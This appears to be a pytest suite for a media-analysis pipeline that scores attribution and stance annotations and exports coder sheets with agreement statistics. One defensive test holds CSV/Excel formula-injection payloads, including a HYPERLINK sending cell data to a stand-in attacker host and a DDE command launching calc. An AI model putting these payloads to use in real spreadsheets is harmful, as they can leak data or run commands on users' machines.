"""Tests of analysis.validation.scoring: gold scoring, coder sheets and agreement tables."""

from __future__ import annotations

import json

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from analysis.corpus import schema
from analysis.validation.gold import GOLD_DIR, load_gold, read_example_text
from analysis.corpus.paths import EXAMPLE_ARTICLE
from analysis.text.segment import split_article
from analysis.validation.scoring import (
    ERROR_COLUMNS,
    RULE_OVERLAP_ONLY,
    match_spans,
    restrict_to_gold,
    score_attributions,
    score_stance,
)
from analysis.validation.sheets import (
    SheetError,
    agreement_table,
    attribution_units,
    disagreements,
    excel_safe,
    export_coder_sheet,
    read_coder_sheet,
    sentence_units,
)

EXAMPLE_ID = EXAMPLE_ARTICLE.stem
TITLE, BODY = read_example_text(EXAMPLE_ARTICLE)


def _example_sentences() -> pd.DataFrame:
    rows = [{"article_id": EXAMPLE_ID, **s._asdict()} for s in split_article(TITLE, BODY)]
    return pd.DataFrame(rows, columns=schema.SENTENCES)


# ------------------------------------------------------------------ constructed tables
# Constructed article "x": title sentence [0, 20); body sentences [0, 50) and [50, 100).
SENTENCES = pd.DataFrame({
    "article_id": ["x", "x", "x"], "sent_id": [0, 1, 2], "part": ["title", "lead", "body"],
    "start": [0, 0, 50], "end": [20, 50, 100], "text": ["t", "l", "b"],
})
ATT_COLS = ["article_id", "part", "source_side", "cue_start", "cue_end", "cue_category",
            "mode", "source_type", "in_heading"]


def _gold_attributions() -> pd.DataFrame:
    rows = [
        ["x", "body", "russia", 10, 14, "neutral", "indirect", "person", False],
        ["x", "body", "us", 60, 64, "denial", "direct", "institution", False],
        ["x", "title", "russia", 0, 3, "hedged", "indirect", "person", True],
        ["x", "body", "us", 80, 84, "assertive", "indirect", "person", False],
    ]
    gold = pd.DataFrame(rows, columns=ATT_COLS)
    gold.insert(1, "gold_id", ["g1", "g2", "g3", "g4"])
    return gold


def _pred_attributions() -> pd.DataFrame:
    rows = [
        ["x", "lead", "russia", 11, 15, "neutral", "direct", "person", False],      # p1 ~ g1, mode differs
        ["x", "body", "us", 66, 70, "neutral", "indirect", "person", False],         # p2 ~ g4 same sentence
        ["x", "body", "us", 61, 63, "denial", "direct", "institution", False],      # p3 ~ g2 overlap
        ["x", "body", "russia", 60, 64, "denial", "direct", "institution", False],  # p4 side differs: FP
        ["x", "heading", "russia", 0, 3, "hedged", "indirect", "person", True],     # p5 body string: FP
        ["y", "body", "us", 1, 4, "neutral", "direct", "person", False],            # p6 not gold article
    ]
    return pd.DataFrame(rows, columns=ATT_COLS, index=[101, 102, 103, 104, 105, 106])


def test_score_attributions_constructed_counts():
    scores = score_attributions(_pred_attributions(), _gold_attributions(), SENTENCES)
    det = scores.detection.set_index("group")
    assert det.loc["all", ["tp", "fp", "fn"]].tolist() == [3, 2, 1]
    assert scores.precision == pytest.approx(3 / 5)
    assert scores.recall == pytest.approx(3 / 4)
    assert scores.f1 == pytest.approx(2 / 3)
    assert det.loc["russia", ["tp", "fp", "fn"]].tolist() == [1, 2, 1]
    assert det.loc["us", ["tp", "fp", "fn"]].tolist() == [2, 0, 0]
    assert np.isnan(det.loc["other", "precision"])
    pairs = scores.matches.set_index("gold_id")
    assert pairs.loc["g1", "pred_index"] == 101
    assert pairs.loc["g2", ["pred_index", "basis"]].tolist() == [103, "overlap"]
    assert pairs.loc["g4", ["pred_index", "basis"]].tolist() == [102, "same_sentence"]
    labels = scores.labels.set_index("field")
    assert labels.loc["mode", ["n_pairs", "n_agree"]].tolist() == [3, 2]
    assert labels.loc["cue_category", "accuracy"] == pytest.approx(2 / 3)
    assert labels.loc["in_heading", "accuracy"] == 1.0


def test_score_attributions_error_listing():
    errors = score_attributions(_pred_attributions(), _gold_attributions(), SENTENCES).errors
    assert list(errors.columns) == ERROR_COLUMNS
    summary = errors[["error", "part", "field", "gold_id", "pred_index", "gold_label", "pred_label"]]
    assert summary.astype(object).where(summary.notna(), None).values.tolist() == [
        ["false_negative", "title", "source_side", "g3", None, "russia", ""],
        ["false_positive", "body", "source_side", None, 105, "", "russia"],
        ["label_disagreement", "body", "mode", "g1", 101, "indirect", "direct"],
        ["false_positive", "body", "source_side", None, 104, "", "russia"],
        ["label_disagreement", "body", "cue_category", "g4", 102, "assertive", "neutral"],
    ]
    assert errors.loc[3, ["pred_start", "pred_end"]].tolist() == [60, 64]


def test_score_without_sentences_uses_overlap_only_and_says_so():
    with pytest.warns(UserWarning, match="overlap only"):
        scores = score_attributions(_pred_attributions(), _gold_attributions())
    assert scores.matching_rule == RULE_OVERLAP_ONLY
    assert scores.detection.loc[0, ["tp", "fp", "fn"]].tolist() == [2, 3, 2]
    assert "overlap (no sentences table given" in repr(scores)


def test_restriction_to_gold_articles():
    pred = _pred_attributions()
    assert restrict_to_gold(pred, _gold_attributions()).index.tolist() == [101, 102, 103, 104, 105]
    unrestricted = score_attributions(pred, _gold_attributions(), SENTENCES, restrict=False)
    assert unrestricted.detection.loc[0, "fp"] == 3


def test_scores_table_and_repr():
    scores = score_attributions(_pred_attributions(), _gold_attributions(), SENTENCES)
    table = scores.table
    assert list(table.columns) == ["measure", "group", "value", "n"]
    f1_all = table[(table["measure"] == "f1") & (table["group"] == "all")]
    assert f1_all[["value", "n"]].values.tolist() == [[pytest.approx(2 / 3), 6]]
    assert table[table["measure"] == "accuracy"]["group"].tolist() == [
        "cue_category", "mode", "source_type", "in_heading"]
    text = repr(scores)
    assert text.startswith("Scores(attributions, 1 gold article(s); matching: cue/evidence spans")
    assert "all               3    2    1   0.600  0.750  0.667" in text
    assert "other             0    0    0     n/a    n/a    n/a" in text
    assert "accuracy of mode         0.667 (2/3 matched pairs)" in text


def test_prediction_problems_raise_clear_errors():
    pred = _pred_attributions()
    with pytest.raises(ValueError, match=r"predicted attributions table is missing columns \['mode'\]"):
        score_attributions(pred.drop(columns="mode"), _gold_attributions(), SENTENCES)
    with pytest.raises(ValueError, match=r"unknown part values \['abstract'\]"):
        score_attributions(pred.assign(part="abstract"), _gold_attributions(), SENTENCES)
    pred["cue_start"] = pred["cue_start"].astype("Int64")
    pred.loc[103, "cue_start"] = pd.NA
    with pytest.raises(ValueError, match=r"1 rows have no cue_start/cue_end .*rows \[103\]"):
        score_attributions(pred, _gold_attributions(), SENTENCES)


def test_score_stance_constructed():
    cols = ["article_id", "part", "holder_side", "target_side", "polarity", "kind",
            "evidence_start", "evidence_end"]
    gold = pd.DataFrame([
        ["x", "body", "russia", "us", "negative", "blame", 10, 20],
        ["x", "body", "", "us", "negative", "criticism", 60, 70],       # author: no side
        ["x", "body", "us", "russia", "positive", "cooperation", 80, 90],
    ], columns=cols).assign(gold_id=["s1", "s2", "s3"])
    pred = pd.DataFrame([
        ["x", "lead", "russia", "us", "negative", "criticism", 12, 18],
        ["x", "body", "author", "us", "negative", "criticism", 55, 65],
        ["x", "body", "us", "russia", "negative", "cooperation", 80, 90],
    ], columns=cols)
    scores = score_stance(pred, gold, SENTENCES)
    det = scores.detection.set_index("group")
    assert det.loc["all", ["tp", "fp", "fn"]].tolist() == [2, 1, 1]
    assert det.loc["us", ["tp", "fp", "fn"]].tolist() == [2, 0, 0]
    assert det.loc["russia", ["tp", "fp", "fn"]].tolist() == [0, 1, 1]
    assert scores.labels.loc[0, ["field", "n_agree", "n_pairs"]].tolist() == ["kind", 1, 2]
    fn = scores.errors[scores.errors["error"] == "false_negative"]
    assert fn[["gold_id", "gold_label"]].values.tolist() == [["s3", "us->russia positive"]]


def test_match_spans_is_maximum_not_greedy():
    # pred 0 overlaps both gold spans and is nearest to gold 0; a greedy pass would take
    # that pair and leave pred 1 unmatched. The maximum matching pairs both.
    gold = [(0, 10, None), (20, 30, None)]
    pred = [(5, 25, None), (8, 12, None)]
    assert match_spans(gold, pred) == [(0, 1, 0, 10), (1, 0, 0, 20)]
    assert match_spans(gold, []) == []
    assert match_spans([(0, 4, 1)], [(10, 14, 2)]) == []


# ------------------------------------------------------------------ real gold

def _real_gold_example():
    if not GOLD_DIR.is_dir() or not (GOLD_DIR / f"{EXAMPLE_ID}.meta.json").is_file():
        pytest.skip(f"no gold for the example article in {GOLD_DIR} yet")
    return load_gold(article_ids=[EXAMPLE_ID])


def test_real_gold_scored_against_itself_and_with_a_gap():
    gold = _real_gold_example()
    sentences = _example_sentences()
    perfect = score_attributions(gold.attributions, gold, sentences)
    n = len(gold.attributions)
    assert perfect.detection.loc[0, ["tp", "fp", "fn"]].tolist() == [n, 0, 0]
    assert perfect.errors.empty
    pred = gold.attributions.iloc[1:]
    scores = score_attributions(pred, gold, sentences)
    assert scores.recall == pytest.approx((n - 1) / n)
    assert scores.errors["gold_id"].tolist() == [gold.attributions["gold_id"].iloc[0]]


def test_real_gold_cue_moved_within_its_sentence_still_matches():
    gold = _real_gold_example()
    sentences = _example_sentences()
    row = gold.attributions[gold.attributions["part"] == "body"].iloc[0]
    sentence = sentences[(sentences["part"] != "title") & (sentences["start"] <= row["cue_start"])
                         & (sentences["end"] > row["cue_start"])].iloc[0]
    pred = gold.attributions[gold.attributions["gold_id"] == row["gold_id"]].copy()
    pred["cue_start"], pred["cue_end"] = sentence["end"] - 1, sentence["end"]
    assert pred["cue_start"].iloc[0] >= row["cue_end"]  # no overlap left
    scores = score_attributions(pred, gold.attributions[gold.attributions["gold_id"] == row["gold_id"]],
                                sentences)
    assert scores.matches["basis"].tolist() == ["same_sentence"]
    with pytest.warns(UserWarning):
        overlap_only = score_attributions(pred, gold.attributions[gold.attributions["gold_id"] == row["gold_id"]])
    assert overlap_only.detection.loc[0, ["tp", "fp", "fn"]].tolist() == [0, 1, 1]


# ------------------------------------------------------------------ coder sheets

VARIABLES = {"stance_us": ["negative", "positive", "none"], "mode": list(schema.MODES)}


def _units() -> pd.DataFrame:
    return sentence_units(_example_sentences())


def test_sentence_units_from_real_article():
    units = _units()
    assert units["unit_id"].iloc[0] == f"{EXAMPLE_ID}/s0"
    assert units["part"].iloc[0] == "title"
    assert units["text"].iloc[0] == TITLE[units["start"].iloc[0]:units["end"].iloc[0]]


def test_attribution_units_take_sentence_text():
    sentences = _example_sentences()
    att = pd.DataFrame({"article_id": [EXAMPLE_ID], "attribution_id": [7], "sent_id": [1],
                        "part": ["lead"], "cue": ["لمّح"], "cue_start": [4], "cue_end": [8],
                        "source_side": ["russia"]})
    units = attribution_units(att, sentences)
    assert units.loc[0, "unit_id"] == f"{EXAMPLE_ID}/a7"
    assert units.loc[0, "text"] == sentences.loc[1, "text"]
    with pytest.raises(ValueError, match="missing from the sentences table"):
        attribution_units(att.assign(sent_id=999), sentences)


def test_csv_sheet_round_trip(tmp_path):
    units = _units()
    path = export_coder_sheet(units, tmp_path / "coder_a.csv", VARIABLES, coder="coder_a")
    written = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert list(written.columns) == ["unit_id", "article_id", "part", "start", "end", "text",
                                     "stance_us", "mode", "coder", "notes"]
    assert (written["mode"] == "").all()
    written.loc[0, "mode"] = "indirect"
    written.loc[2, "stance_us"] = "positive"
    written.to_csv(path, index=False, encoding="utf-8-sig")
    sheet = read_coder_sheet(path)
    assert sheet["text"].tolist() == units["text"].tolist()
    assert sheet.loc[0, "mode"] == "indirect" and pd.isna(sheet.loc[1, "mode"])
    assert sheet.loc[2, "stance_us"] == "positive"
    assert sheet["start"].tolist() == units["start"].tolist()
    assert set(sheet["coder"]) == {"coder_a"}
    stored = json.loads((tmp_path / "coder_a.variables.json").read_text(encoding="utf-8"))
    assert stored["variables"] == VARIABLES


def test_xlsx_sheet_layout_and_round_trip(tmp_path):
    units = _units()
    path = export_coder_sheet(units, tmp_path / "coder_b.xlsx", VARIABLES, coder="coder_b")
    book = load_workbook(path)
    ws = book["units"]
    assert ws.freeze_panes == "A2"
    assert ws.sheet_view.rightToLeft is True
    header = [c.value for c in ws[1]]
    text_col = header.index("text") + 1
    assert ws.cell(row=2, column=text_col).value == units["text"].iloc[0]
    assert ws.cell(row=2, column=text_col).alignment.readingOrder == 2
    rules = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    mode_letter = "H"
    assert header[7] == "mode"
    assert rules[f"{mode_letter}2:{mode_letter}{len(units) + 1}"] == "choices!$B$2:$B$4"
    assert book["choices"].sheet_state == "hidden"
    assert [c.value for c in book["choices"]["B"]] == ["mode", "direct", "indirect", "mixed"]
    ws.cell(row=3, column=header.index("stance_us") + 1, value="negative")
    book.save(path)
    sheet = read_coder_sheet(path)
    assert sheet.loc[1, "stance_us"] == "negative"
    assert sheet["stance_us"].notna().sum() == 1
    assert sheet["text"].tolist() == units["text"].tolist()


# Constructed hostile cells (not corpus text): each would be a live formula in a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"انقر هنا")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\tقال لافروف",
    "'= already marked",
    "  قال لافروف إن موسكو سترد  ",
]


def _hostile_units() -> pd.DataFrame:
    return pd.DataFrame({
        "unit_id": [f"u{i}" for i in range(len(HOSTILE))],
        "article_id": [f"=a{i}" for i in range(len(HOSTILE))],
        "part": "body", "start": range(len(HOSTILE)), "end": range(1, len(HOSTILE) + 1),
        "text": HOSTILE,
    })


def test_xlsx_sheet_stores_text_cells_never_formulas(tmp_path):
    units = _hostile_units()
    path = export_coder_sheet(units, tmp_path / "coder.xlsx", VARIABLES, coder="c")
    ws = load_workbook(path)["units"]
    header = [c.value for c in ws[1]]
    cells = [ws.cell(row=r, column=header.index("text") + 1) for r in range(2, len(HOSTILE) + 2)]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == HOSTILE
    sheet = read_coder_sheet(path)
    assert sheet["text"].tolist() == HOSTILE
    assert sheet["article_id"].tolist() == units["article_id"].tolist()


def test_csv_sheet_neutralises_formulas_and_round_trips(tmp_path):
    units = _hostile_units()
    path = export_coder_sheet(units, tmp_path / "coder.csv", VARIABLES, coder="c")
    raw = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert raw["text"].tolist()[:6] == ["'" + v for v in HOSTILE[:6]]
    assert raw["text"].tolist()[6] == HOSTILE[6]
    assert not raw.map(lambda v: v.startswith(("=", "+", "-", "@", "\t"))).any().any()
    sheet = read_coder_sheet(path)
    assert sheet["text"].tolist() == HOSTILE
    assert sheet["article_id"].tolist() == units["article_id"].tolist()


def test_excel_safe_leaves_ordinary_text_alone():
    assert excel_safe("قال لافروف") == "قال لافروف"
    assert excel_safe("2018-03-15") == "2018-03-15"
    assert excel_safe("-") == "'-"


def test_read_coder_sheet_lists_every_problem(tmp_path):
    path = export_coder_sheet(_units().head(4), tmp_path / "c.csv", VARIABLES, coder="c")
    frame = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    frame.loc[1, "mode"] = "quoted"
    frame.loc[3, "unit_id"] = frame.loc[0, "unit_id"]
    frame.loc[2, "stance_us"] = "hostile"
    frame.to_csv(path, index=False, encoding="utf-8-sig")
    with pytest.raises(SheetError) as info:
        read_coder_sheet(path)
    assert info.value.problems == [
        "c.csv: row 3, column mode: unknown label 'quoted'; allowed: ['direct', 'indirect', 'mixed']",
        "c.csv: row 4, column stance_us: unknown label 'hostile'; allowed: ['negative', 'positive', 'none']",
        f"c.csv: row 5, column unit_id: '{EXAMPLE_ID}/s0' repeats row 2",
    ]
    frame.drop(columns=["mode"]).to_csv(path, index=False, encoding="utf-8-sig")
    with pytest.raises(SheetError, match=r"row 1 \(header\): missing columns \['mode'\]"):
        read_coder_sheet(path)
    (tmp_path / "c.variables.json").unlink()
    with pytest.raises(ValueError, match="pass variables="):
        read_coder_sheet(path)


def _sheet(coder: str, values: list, variable: str = "v") -> pd.DataFrame:
    n = len(values)
    return pd.DataFrame({"unit_id": [f"u{i}" for i in range(n)], "article_id": ["x"] * n,
                         "text": [f"t{i}" for i in range(n)], variable: values,
                         "coder": [coder] * n}).astype("string")


def test_agreement_table_hand_computed():
    a = _sheet("a", ["x", "x", "y", "y", None]).assign(same=["k"] * 5, exact=list("pqpqp"))
    b = _sheet("b", ["x", "x", "y", "x", "y"]).assign(same=["k"] * 5, exact=list("pqpqp"))
    table = agreement_table([a, b], ["v", "same", "exact"]).set_index("variable")
    assert table.loc["v", "alpha"] == pytest.approx(8 / 15)
    assert table.loc["v", "kappa"] == pytest.approx(0.5)
    assert table.loc["v", ["n_units", "n_coders", "reliability"]].tolist() == [4, 2, "unreliable"]
    assert table.loc["v", "percent_agreement"] == pytest.approx(0.75)
    assert np.isnan(table.loc["same", "alpha"]) and table.loc["same", "reliability"] == "undefined"
    assert "alpha is undefined: all 10 pairable values are 'k'" in table.loc["same", "note"]
    assert table.loc["exact", ["alpha", "kappa", "reliability"]].tolist() == [1.0, 1.0, "reliable"]


def test_agreement_table_four_coders_published_example(tmp_path):
    data = [
        [1, 2, 3, 3, 2, 1, 4, 1, 2, None, None, None],
        [1, 2, 3, 3, 2, 2, 4, 1, 2, 5, None, 3],
        [None, 3, 3, 3, 2, 3, 4, 2, 2, 5, 1, None],
        [1, 2, 3, 3, 2, 4, 4, 1, 2, 5, 1, None],
    ]
    sheets = [_sheet(f"c{k}", [None if v is None else str(v) for v in row]) for k, row in enumerate(data)]
    table = agreement_table(sheets, ["v"], levels={"v": "nominal"})
    assert table.loc[0, "alpha"] == pytest.approx(0.743, abs=5e-4)
    assert table.loc[0, ["n_units", "reliability"]].tolist() == [11, "tentative"]
    assert np.isnan(table.loc[0, "kappa"])
    interval = [s.assign(v=pd.to_numeric(s["v"])) for s in sheets]
    assert agreement_table(interval, ["v"], levels={"v": "interval"}).loc[0, "alpha"] == pytest.approx(0.849, abs=5e-4)


def test_agreement_table_reads_files_and_rejects_same_coder(tmp_path):
    units = _units().head(3)
    paths = []
    for coder, codes in (("a", ["direct", "indirect", "mixed"]), ("b", ["direct", "indirect", "direct"])):
        path = export_coder_sheet(units, tmp_path / f"{coder}.csv", VARIABLES, coder=coder)
        frame = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        frame["mode"] = codes
        frame.to_csv(path, index=False, encoding="utf-8-sig")
        paths.append(path)
    table = agreement_table(paths, VARIABLES)
    assert table["variable"].tolist() == ["stance_us", "mode"]
    assert table.loc[0, "n_units"] == 0 and "no unit was coded by two" in table.loc[0, "note"]
    assert table.loc[1, "n_units"] == 3
    with pytest.raises(ValueError, match="different coders"):
        agreement_table([paths[0], paths[0]], ["mode"])
    with pytest.raises(ValueError, match="at least two coder sheets"):
        agreement_table(paths[:1], ["mode"])


def test_disagreements_lists_units_with_different_codes():
    a = _sheet("a", ["x", "x", "y", "y", None])
    b = _sheet("b", ["x", "z", "y", "x", "y"])
    out = disagreements([a, b], "v")
    assert out["unit_id"].tolist() == ["u1", "u3"]
    assert out[["a", "b"]].values.tolist() == [["x", "z"], ["y", "x"]]
    assert out["text"].tolist() == ["t1", "t3"]


def test_empty_predictions_give_zero_recall_and_undefined_precision():
    empty = schema.empty_table(schema.ATTRIBUTIONS)
    scores = score_attributions(empty, _gold_attributions(), SENTENCES)
    assert scores.detection.loc[0, ["tp", "fp", "fn"]].tolist() == [0, 0, 4]
    assert np.isnan(scores.precision) and scores.recall == 0.0 and scores.f1 == 0.0
    assert scores.errors["error"].tolist() == ["false_negative"] * 4


def _content_case():
    # Constructed article: "قال لافروف إن موسكو سترد على العقوبات بحزم" (body).
    body = "قال لافروف إن موسكو سترد على العقوبات بحزم"
    articles = pd.DataFrame({"article_id": ["a"], "title": [""], "body": [body]})
    content_start = body.index("موسكو")
    gold = pd.DataFrame([{
        "article_id": "a", "gold_id": "a1", "part": "body", "source_side": "russia",
        "cue_start": 0, "cue_end": 3, "cue_category": "neutral", "mode": "indirect",
        "source_type": "person", "in_heading": False,
        "content_start": content_start, "content_end": len(body),
    }])
    pred = gold.drop(columns="gold_id").assign(content_end=body.index(" بحزم"))  # one word short
    return articles, gold, pred


def test_score_content_counts_words_by_position():
    from analysis.validation.scoring import score_content

    articles, gold, pred = _content_case()
    scores = score_attributions(pred, gold)
    table = score_content(scores, pred, gold, articles)
    row = table.iloc[0]
    assert (row.gold_words, row.pred_words, row.shared_words) == (5, 4, 4)
    assert (row.precision, row.recall) == (1.0, 0.8)
    assert round(row.f1, 4) == round(2 * 4 / 9, 4) and round(table.attrs["micro_f1"], 4) == 0.8889


def test_score_content_gives_zero_when_the_prediction_has_no_content():
    from analysis.validation.scoring import score_content

    articles, gold, pred = _content_case()
    pred = pred.assign(content_start=pd.NA, content_end=pd.NA)
    table = score_content(score_attributions(pred, gold), pred, gold, articles)
    assert table["f1"].tolist() == [0.0] and table.attrs["micro_f1"] == 0.0


def test_recall_by_counts_found_gold_units_per_value():
    from analysis.validation.scoring import recall_by

    articles, gold, pred = _content_case()
    gold = pd.concat([gold, gold.assign(gold_id="a2", cue_start=20, cue_end=24, cue_category="denial")])
    table = recall_by(score_attributions(pred, gold), gold, "cue_category").set_index("cue_category")
    assert table.loc["neutral", ["gold", "found"]].tolist() == [1, 1]
    assert table.loc["denial", ["gold", "found"]].tolist() == [1, 0] and table.loc["denial", "recall"] == 0.0


def _two_article_scores():
    # Constructed: article "x" as above (tp 3, fp 2, fn 1) and article "z", whose two gold
    # attributions the prediction misses (fn 2).
    gold = pd.concat([_gold_attributions(), pd.DataFrame([
        ["z", "z1", "body", "us", 5, 9, "neutral", "indirect", "person", False],
        ["z", "z2", "body", "russia", 20, 24, "neutral", "indirect", "person", False],
    ], columns=["article_id", "gold_id", *ATT_COLS[1:]])], ignore_index=True)
    sentences = pd.concat([SENTENCES, pd.DataFrame({
        "article_id": ["z"], "sent_id": [0], "part": ["body"], "start": [0], "end": [40], "text": ["b"]})],
        ignore_index=True)
    return score_attributions(_pred_attributions(), gold, sentences)


def test_article_counts_sum_to_the_totals_and_keep_empty_articles():
    from analysis.validation.scoring import article_counts

    counts = article_counts(_two_article_scores(), ["x", "z", "empty"]).set_index("article_id")
    assert counts.loc["x"].tolist() == [3, 2, 1]
    assert counts.loc["z"].tolist() == [0, 0, 2]
    assert counts.loc["empty"].tolist() == [0, 0, 0]
    with pytest.raises(ValueError, match="not in article_ids: \\['z'\\]"):
        article_counts(_two_article_scores(), ["x"])


def test_bootstrap_resamples_whole_articles():
    from analysis.validation.scoring import bootstrap_scores

    # Two articles: resamples are {x, x} (F1 2/3, p = 1/4), {x, z} (6/11, p = 1/2) and
    # {z, z} (0, p = 1/4), so the 95 % interval runs from 0 to 2/3 around the point 6/11.
    b = bootstrap_scores(_two_article_scores(), ["x", "z"], draws=4000, seed=1)
    assert b["f1"] == pytest.approx(6 / 11) and b["articles"] == 2
    assert b["f1_low"] == 0.0 and b["f1_high"] == pytest.approx(2 / 3)
    assert b["precision"] == pytest.approx(3 / 5) and b["recall"] == pytest.approx(3 / 6)
    # {z, z} has no prediction: its precision is undefined and left out, not counted as 0
    assert b["precision_low"] == pytest.approx(3 / 5) and b["precision_high"] == pytest.approx(3 / 5)
    assert bootstrap_scores(_two_article_scores(), ["x", "z"], draws=4000, seed=1) == b  # seeded
    with pytest.raises(ValueError, match="level=95"):
        bootstrap_scores(_two_article_scores(), ["x", "z"], level=95)
